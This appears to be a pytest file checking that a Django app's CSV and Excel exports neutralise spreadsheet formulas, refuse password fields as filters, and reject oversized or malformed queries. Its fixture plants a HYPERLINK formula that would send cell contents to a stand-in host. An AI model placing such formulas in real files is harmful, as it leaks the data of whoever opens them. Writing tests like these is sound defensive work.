"""T5, T12, T17, T21: what is hostile in a query or in a text does no harm on any page or in any file."""

import csv
import io
import re
import zipfile

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse

from pantau.records.models import Actor, Plan
from tests.usecases.cast import pen
from tests.web.world import World

pytestmark = pytest.mark.sqlite_alone  # what a page answers does not depend on the engine
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"open")'
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d[\d.]*")


@pytest.fixture
def hostile(world: World) -> World:
    """Formulas wherever people write: the titles of plans, the names of countries and partners."""
    words = {"en": FORMULA, "id": f"@{FORMULA}"}
    with transaction.atomic():
        for plan in Plan.objects.all():
            pen().change(plan, title={"en": f"＝{FORMULA}", "id": f"＠{FORMULA}"})
        for actor in Actor.objects.filter(code__startswith="X-"):
            pen().change(actor, name=words)
    return world


def test_t17_no_csv_of_any_page_holds_a_formula(hostile: World, client: Client) -> None:
    met = 0
    for name, url in hostile.addresses(format="csv").items():
        answer = client.get(url)
        if answer.status_code != 200:
            continue  # a page of several tables asks for one of them, or has none
        for row in csv.reader(io.StringIO(answer.content.decode().removeprefix("\ufeff"))):
            met += sum(FORMULA in cell for cell in row)
            run = [cell for cell in row if cell.startswith(SIGNS) and not NUMBER.fullmatch(cell)]
            assert run == [], name

    assert met > 10, "hardly any page showed the formulas: nothing is proven"


@pytest.mark.parametrize("name", ["matrix-xlsx", "report-sheet-xlsx"])
def test_t17_no_workbook_holds_a_formula(hostile: World, client: Client, name: str) -> None:
    places = {"matrix-xlsx": {"code": "TESTS"}, "report-sheet-xlsx": {"round": hostile.round, "reporter": "X-ALF"}}

    answer = client.get(reverse(name, kwargs=places[name]))

    content = b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {part: book.read(part).decode() for part in book.namelist() if part.endswith(".xml")}
    assert "HYPERLINK" in "".join(parts.values())
    sheets = [part for part in parts if part.startswith("xl/worksheets/")]
    assert [part for part in sheets if re.search(r"<f[ >]", parts[part])] == []


def test_t5_a_hidden_field_is_refused_as_an_unknown_one_on_every_page(world: World, client: Client) -> None:
    for name, url in world.addresses(format="json").items():
        said = []
        for field in ("password", "submitted_by__password", "nowhere"):
            answer = client.get(url, {field: "x"})
            said.append((answer.status_code, answer.json()["code"]))
            order = client.get(url, {"sort": field})
            assert order.status_code == 400, name
            said.append((order.status_code, order.json()["code"]))

        assert set(said[::2]) == {(400, "parameter_unknown")}, name
        assert len(set(said[1::2])) == 1, name


@pytest.mark.parametrize("query", ["size=501", "page=10000000000000000000000", "page=-1"])
def test_t12_no_page_is_longer_or_deeper_than_its_list(world: World, client: Client, query: str) -> None:
    for name, url in world.addresses(format="json").items():
        assert client.get(f"{url}?{query}").status_code in (400, 404), name


@pytest.mark.parametrize("query", ["q=%00", "q=%ED%A0%80", "sort=%00", "%00=1"])
def test_t21_broken_text_in_a_query_is_no_fault_of_ours(world: World, client: Client, query: str) -> None:
    for name, url in world.addresses(format="json").items():
        assert client.get(f"{url}?{query}").status_code < 500, name
